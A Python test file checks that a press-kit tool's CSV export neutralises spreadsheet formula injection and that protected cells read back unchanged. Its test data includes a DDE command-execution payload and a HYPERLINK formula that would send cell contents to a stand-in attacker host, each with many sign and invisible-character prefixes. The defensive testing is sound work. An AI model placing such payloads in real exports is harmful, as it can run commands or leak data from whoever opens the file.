"""No cell of a CSV that presskit writes is run by a spreadsheet, and each is read back as it was."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import presskit
from presskit.formats.csv_cells import protected, unprotected
from presskit.mail import media_list
from presskit.mail.addresses import Recipient
from presskit.mail.ledger import Entry, ServerReply, State
from presskit.readers.tables.table_file import read_csv
from presskit.usecases.mail_status import HEADS, as_csv

SIGNS = "=+-@＝＋－＠\u2212﹢﹣﹦﹫"
BEFORE = ["", " ", "\t", "\r", "\n", '"', "'", "''", "\u200b", "\ufeff", "\xa0", "\u3000", "\u202e", "\x00", "\x0b", '" ', "＂", "\u2060\xad"]
PAYLOADS = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?"&A1;"x")', "1+1", "SUM(1)*cmd", "IMPORTXML(A1)", ""]
STARTS = {before: [f"{before}{sign}{payload}" for sign in SIGNS for payload in PAYLOADS] for before in BEFORE}
CASES = [case for cases in STARTS.values() for case in cases]
INSIDE = {f"Rana{separator}": [f"Rana{separator}{case}" for case in CASES[::17]] for separator in ";|\t\r\n"}


def signed(cell: str) -> bool:
    """Tell, by rules other than the code's, whether some spreadsheet may run a cell: it folds widths and drops what is not seen."""
    seen = "".join(each for each in cell if unicodedata.category(each)[0] not in "CZ" or each == "'")
    seen = unicodedata.normalize("NFKC", seen).replace("\u2212", "-").lstrip('"')
    return seen.startswith(("=", "+", "-", "@"))


def is_run(cell: str) -> bool:
    return signed(cell) or cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize(("start", "texts"), (STARTS | INSIDE).items(), ids=ascii)
def test_a_formula_is_a_text_with_each_separator(start: str, texts: list[str]) -> None:
    for text in texts:
        cell = protected(text)
        assert unprotected(cell) == text
        assert not is_run(cell)
        for separator in ";|\t\n\r":
            assert not [part for part in cell.split(separator)[1:] if signed(part)]


@given(st.text(st.sampled_from("'\"=+-@＝;|\t\r\n \u200ba,A1")) | st.text())
@example("'=x")
@example("''\t=")
@example("';'=")
def test_each_text_is_read_back(text: str) -> None:
    assert unprotected(protected(text)) == text


@pytest.mark.parametrize("text", ["", "Rana", "O'Neill", "'t Hooft", "a-b", "x@y.example", "<id@host>", "don't", "a; b", "«–»"])
def test_other_texts_have_no_mark(text: str) -> None:
    assert protected(text) == unprotected(text) == text


def entry(text: str, address: str = "rana@paper.example") -> Entry:
    at = datetime(2026, 3, 2, tzinfo=UTC)
    who = Recipient(address, text, text, "en")
    return Entry(1, "bridge", 1, who, text, "", State.REJECTED, 1, None, at, ServerReply(550, text), at)


def test_the_table_of_messages_runs_nothing() -> None:
    head, *rows = csv.reader(io.StringIO(as_csv([entry(text) for text in CASES]).decode("utf-8-sig"), newline=""))
    assert head == list(HEADS)
    for text, row in zip(CASES, rows, strict=True):
        assert not [cell for cell in row if is_run(cell)], text
        assert [unprotected(cell) for cell in row].count(text) >= 3


def test_presskit_reads_its_own_table_as_it_was() -> None:
    reading = media_list.read("sent.csv", as_csv([entry("=Rana", "+rana@paper.example"), entry("@News", "-x@tv.example")]))
    assert [(each.address, each.name) for each in reading.value.recipients] == [("+rana@paper.example", "=Rana"), ("-x@tv.example", "@News")]


def test_a_table_from_elsewhere_with_such_marks_is_read_without_them() -> None:
    grid = read_csv("list.csv", b"Name,Phone\r\nRana,'+44 20 7946 0958\r\n'Aid',O'Neill\r\n").value
    assert grid is not None
    assert [[cell.text for cell in row.cells] for row in grid.rows[1:]] == [["Rana", "+44 20 7946 0958"], ["'Aid'", "O'Neill"]]


def test_nothing_else_of_presskit_writes_tables() -> None:
    top = Path(presskit.__file__).parent
    writing = {path.relative_to(top).as_posix() for path in top.rglob("*.py") if re.search(r"csv\.(Dict)?[wW]riter|write_only", path.read_text("utf-8"))}
    assert writing == {"usecases/mail_status.py"}
